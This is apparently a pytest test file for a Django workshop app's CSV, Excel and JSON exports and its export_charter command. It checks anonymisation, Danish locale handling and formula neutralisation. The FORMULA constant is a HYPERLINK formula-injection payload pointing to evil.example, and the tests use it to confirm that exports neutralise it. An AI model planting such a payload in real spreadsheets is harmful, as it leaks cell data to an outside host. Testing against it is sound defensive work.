"""Exports of a workshop (CSV, Excel, JSON) and the export_charter command."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.core.management import CommandError, call_command

from principles.exports import (
    entries_csv,
    entries_xlsx,
    neutralise,
    principles_csv,
    principles_xlsx,
    workshop_json,
)
from principles.management.commands.export_charter import find_workshop
from principles.models import CharterVersion, Vote
from principles.services import charter_for, charter_publish
from tests.conftest import make_workshop
from tests.test_charter_pdf import (  # noqa: F401 - no_fetching and weasyprint are fixtures
    add_entry,
    add_principle,
    no_fetching,
    pdf_pages,
    publish,
    squeeze,
    weasyprint,
)
from workshops.models import Participant, Phase, Workshop

NAMES = ["Karen Hemmeligsen", "Jens Diskretesen"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
DANISH = "Vi skal bevare æøå ÆØÅ i arbejdet"


@pytest.fixture
def room(workshop):
    """Two named phones and one paper worksheet, with cards, two principles
    and votes; one card removed, one hidden."""
    karen = Participant.objects.create(
        workshop=workshop,
        display_name=NAMES[0],
        team=workshop.teams.get(name="Akut"),
        profession="+45 sygeplejerske",
        ai_kind="genai",
    )
    jens = Participant.objects.create(
        workshop=workshop, display_name=NAMES[1], profession="Læge", ai_kind="ml"
    )
    paper = Participant.objects.create(
        workshop=workshop, display_name="", from_paper=True, profession="@portør"
    )
    cards = {
        "danish": add_entry(karen, DANISH, question=5, levels=["individual"]),
        "formula": add_entry(jens, FORMULA, question=2, levels=["group"], placed=["leadership"]),
        "placed": add_entry(
            jens, "-2 timer om ugen", question=1, levels=["group"], placed=["individual", "context"]
        ),
        "paper": add_entry(paper, "Skrevet på papir", question=3),
        "hidden": add_entry(karen, "Skjult kort", question=4, hidden=True),
        "removed": add_entry(karen, "Slettet kort", question=4, removed=True),
    }
    first = add_principle(
        workshop,
        [cards["danish"], cards["formula"]],
        title="Faglig stolthed: æøå",
        statement="=1+1",
        cells={"individual": "Jeg tjekker altid\nAI'ens svar", "context": "@alle"},
    )
    second = add_principle(workshop, [cards["placed"], cards["hidden"]], title="Tid til læring")
    for person in (karen, jens, paper):
        Vote.objects.create(principle=first, participant=person)
    Vote.objects.create(principle=second, participant=karen)
    return {"cards": cards, "principles": [first, second], "people": [karen, jens, paper]}


class DanishExcel(csv.excel):
    """What Danish Excel reads when a CSV is double-clicked."""

    delimiter = ";"


def csv_rows(content: bytes, dialect=csv.excel) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), dialect))


def xlsx_rows(content: bytes):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return sheet, [list(row) for row in sheet.iter_rows(values_only=True)]


def assert_anonymous(text: str, room) -> None:
    for name in NAMES:
        assert name not in text
    for person in room["people"]:
        assert person.token not in text


# Formula neutralisation ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+45 1234", "'+45 1234"),
        ("-2 timer", "'-2 timer"),
        ("@alle", "'@alle"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Almindelig tekst = fin", "Almindelig tekst = fin"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


# Cards ---------------------------------------------------------------------------------


def test_entries_csv(workshop, room):
    filename, content_type, content = entries_csv(workshop)

    assert filename.endswith(".csv")
    assert content_type.startswith("text/csv")
    rows = csv_rows(content)
    header, body = rows[0], rows[1:]
    assert header[:6] == [
        "ID",
        "Participant",
        "Question",
        "Question text",
        "Text",
        "Participant's text",
    ]
    cards = room["cards"]
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in body}
    assert set(by_id) == {card.pk for name, card in cards.items() if name != "removed"}

    danish = by_id[cards["danish"].pk]
    assert danish["Text"] == DANISH
    assert danish["Question"] == "5"
    assert danish["Levels"] == "Individual"
    assert danish["Profession"] == "'+45 sygeplejerske"
    assert danish["Team"] == "Akut"
    assert danish["Kind of AI"].startswith("Generative AI")

    formula = by_id[cards["formula"].pk]
    assert formula["Text"] == "'" + FORMULA
    assert formula["Participant's text"] == "'" + FORMULA
    assert formula["Levels"] == "Leadership"
    assert formula["Placed by the facilitator"] == "yes"
    assert formula["Levels suggested by the participant"] == "Group"

    placed = by_id[cards["placed"].pk]
    assert placed["Text"] == "'-2 timer om ugen"
    assert placed["Levels"] == "Individual;Surrounding context"

    assert by_id[cards["hidden"].pk]["Hidden"] == "yes"
    assert by_id[cards["paper"].pk]["From a paper worksheet"] == "yes"
    assert by_id[cards["paper"].pk]["Profession"] == "'@portør"
    assert by_id[cards["paper"].pk]["Levels"] == ""
    assert by_id[cards["danish"].pk]["Created"].startswith("20")

    # A stable number per person: Karen's two cards share one, Jens has another.
    assert danish["Participant"] == by_id[cards["hidden"].pk]["Participant"] == "1"
    assert formula["Participant"] == "2"
    assert by_id[cards["paper"].pk]["Participant"] == "3"
    assert_anonymous(content.decode("utf-8-sig"), room)


def test_entries_xlsx(workshop, room):
    filename, content_type, content = entries_xlsx(workshop)

    assert filename.endswith(".xlsx")
    assert content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet, rows = xlsx_rows(content)
    header = rows[0]
    assert header[4] == "Text"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert 8 <= sheet.column_dimensions["E"].width <= 60
    texts = {row[0]: row[4] for row in rows[1:]}
    assert texts[room["cards"]["danish"].pk] == DANISH
    assert texts[room["cards"]["formula"].pk] == "'" + FORMULA
    # Stored as text, never as a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert room["cards"]["removed"].pk not in texts
    flat = "\n".join(str(value) for row in rows for value in row)
    assert_anonymous(flat, room)


def test_entries_in_danish(workshop, room):
    workshop.language = "da"
    workshop.save()

    filename, _type, content = entries_csv(workshop)
    rows = csv_rows(content, DanishExcel)

    assert filename.startswith("kort-")
    assert rows[0][:3] == ["ID", "Deltager", "Spørgsmål"]
    assert len({len(row) for row in rows}) == 1
    by_id = {int(row[0]): row for row in rows[1:]}
    assert "Individ;Omkringliggende kontekst" in by_id[room["cards"]["placed"].pk]
    # Read as an English CSV, a Danish file is one column: it is not one.
    assert len(csv_rows(content)[0]) == 1
    assert principles_csv(workshop)[0].startswith("principper-")
    assert principles_xlsx(workshop)[0].startswith("principper-")
    assert entries_xlsx(workshop)[0].startswith("kort-")


# Principles ----------------------------------------------------------------------------


def test_principles_csv_and_xlsx(workshop, room):
    first, second = room["principles"]
    cards = room["cards"]

    rows = csv_rows(principles_csv(workshop)[2])
    header = rows[0]
    assert header[:3] == ["Position", "Title", "Statement"]
    assert header[3:8] == [
        "Individual",
        "Group",
        "Leadership",
        "Organisation",
        "Surrounding context",
    ]
    assert header[8:] == ["Dots", "Sources", "Source card IDs"]
    assert rows[1][:4] == ["1", "Faglig stolthed: æøå", "'=1+1", "Jeg tjekker altid\nAI'ens svar"]
    assert rows[1][7] == "'@alle"
    assert rows[1][8:] == ["3", "2", f"{cards['formula'].pk};{cards['danish'].pk}"]
    assert rows[2][1] == "Tid til læring"
    assert rows[2][8:10] == ["1", "2"]

    sheet, xrows = xlsx_rows(principles_xlsx(workshop)[2])
    assert xrows[0] == header
    assert xrows[1][1] == "Faglig stolthed: æøå"
    assert xrows[1][2] == "'=1+1"
    assert xrows[1][8] == 3
    assert all(cell.font.bold for cell in sheet[1])


# JSON ---------------------------------------------------------------------------------------


def test_workshop_json(workshop, room, owner):
    version = charter_publish(workshop=workshop, user=owner)

    filename, content_type, content = workshop_json(workshop)

    assert filename.endswith(".json")
    assert content_type == "application/json"
    text = content.decode("utf-8")
    assert "æøå ÆØÅ" in text  # not \u-escaped
    data = json.loads(text)
    assert data["workshop"]["title"] == workshop.title
    assert data["workshop"]["organisation"] == "Sygehus Øst"
    assert [level["code"] for level in data["workshop"]["levels"]][0] == "individual"
    assert data["teams"] == ["Akut", "Medicin"]
    assert [p["number"] for p in data["participants"]] == [1, 2, 3]
    assert data["participants"][0]["profession"] == "+45 sygeplejerske"
    assert data["participants"][2]["from_paper"] is True
    for participant in data["participants"]:
        assert "display_name" not in participant and "token" not in participant
    cards = room["cards"]
    entries = {entry["id"]: entry for entry in data["entries"]}
    assert set(entries) == {card.pk for name, card in cards.items() if name != "removed"}
    assert entries[cards["danish"].pk]["text"] == DANISH
    # JSON is no spreadsheet: the text is as written.
    assert entries[cards["formula"].pk]["text"] == FORMULA
    assert entries[cards["placed"].pk]["levels"] == ["individual", "context"]
    assert entries[cards["placed"].pk]["suggested_levels"] == ["group"]
    first = data["principles"][0]
    assert first["title"] == "Faglig stolthed: æøå"
    assert first["votes"] == 3
    # Sources in the order of the questions.
    assert first["sources"] == [cards["formula"].pk, cards["danish"].pk]
    assert data["principles"][1]["sources"] == [cards["placed"].pk, cards["hidden"].pk]
    assert data["versions"] == [
        {
            "number": 1,
            "language": "en",
            "published_at": data["versions"][0]["published_at"],
            "content": CharterVersion.objects.get(pk=version.pk).content,
        }
    ]
    assert_anonymous(text, room)


def test_exports_of_an_empty_workshop(workshop):
    assert len(csv_rows(entries_csv(workshop)[2])) == 1
    assert len(csv_rows(principles_csv(workshop)[2])) == 1
    assert xlsx_rows(entries_xlsx(workshop)[2])[1][1:] == []
    data = json.loads(workshop_json(workshop)[2])
    assert data["entries"] == [] and data["principles"] == [] and data["versions"] == []


# The export_charter command -------------------------------------------------------------


@pytest.fixture
def published(workshop, room, owner):
    """Version 1, then a reworded version 2."""
    first = publish(workshop, owner)
    charter = charter_for(workshop)
    charter.title = "Vores principper, version to"
    charter.save()
    second = publish(workshop, owner)
    return CharterVersion.objects.get(pk=first.pk), CharterVersion.objects.get(pk=second.pk)


def spaced_lower(code: str) -> str:
    return f" {code[:3].lower()} {code[3:].lower()} "


def run(*args) -> str:
    out = io.StringIO()
    call_command("export_charter", *args, stdout=out)
    return out.getvalue()


def test_command_writes_json_by_join_code(workshop, published, tmp_path):
    path = tmp_path / "charter.json"

    output = run(spaced_lower(workshop.join_code), "--json", str(path))

    assert json.loads(path.read_text(encoding="utf-8")) == published[1].content
    assert "æøå" in path.read_text(encoding="utf-8")
    assert str(path) in output and "version 2" in output


def test_command_picks_an_older_version_by_id(workshop, published, tmp_path):
    path = tmp_path / "v1.json"

    run(str(workshop.pk), "--version", "1", "--json", str(path))

    assert json.loads(path.read_text(encoding="utf-8")) == published[0].content
    assert published[0].content["title"] != published[1].content["title"]


@pytest.mark.usefixtures("no_fetching")
def test_command_writes_a_pdf(workshop, published, tmp_path):
    pdf, data = tmp_path / "charter.pdf", tmp_path / "charter.json"

    output = run(workshop.join_code, "--pdf", str(pdf), "--json", str(data))

    text = squeeze("\n".join(pdf_pages(pdf.read_bytes())))
    assert squeeze("Vores principper, version to") in text
    assert squeeze("Faglig stolthed: æøå") in text
    assert "PDF" in output and str(pdf) in output
    assert json.loads(data.read_text(encoding="utf-8")) == published[1].content


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["NOPE99", "--json", "x.json"], "No workshop has the id or join code “NOPE99”"),
        (["999999", "--json", "x.json"], "No workshop has the id or join code “999999”"),
        (["{code}"], "Say what to write: --pdf PATH, --json PATH or both."),
        (
            ["{code}", "--json", "x.json", "--version", "7"],
            "has no version 7; published versions: 2, 1.",
        ),
    ],
)
def test_command_errors(workshop, published, tmp_path, monkeypatch, args, message):
    monkeypatch.chdir(tmp_path)
    args = [arg.format(code=workshop.join_code) for arg in args]

    with pytest.raises(CommandError, match=re.escape(message)):
        run(*args)

    assert list(tmp_path.iterdir()) == []


def test_command_without_a_published_version(workshop, tmp_path):
    with pytest.raises(CommandError, match="has no published charter yet"):
        run(str(workshop.pk), "--json", str(tmp_path / "x.json"))


def test_join_code_held_now_wins_then_the_newest(organisation, owner):
    old = make_workshop(organisation, owner, title="Old", phase=Phase.CHARTER)
    newer = make_workshop(organisation, owner, title="Newer", phase=Phase.CHARTER)
    Workshop.objects.filter(pk=newer.pk).update(join_code=old.join_code)
    assert find_workshop(old.join_code.lower()) == newer

    holding = make_workshop(organisation, owner, title="Holding")
    Workshop.objects.filter(pk__in=[old.pk, newer.pk]).update(join_code="ZZZ999")
    Workshop.objects.filter(pk=holding.pk).update(join_code="ZZZ999")
    Workshop.objects.filter(pk=holding.pk).update(created_at=old.created_at)
    assert find_workshop("zzz 999") == holding
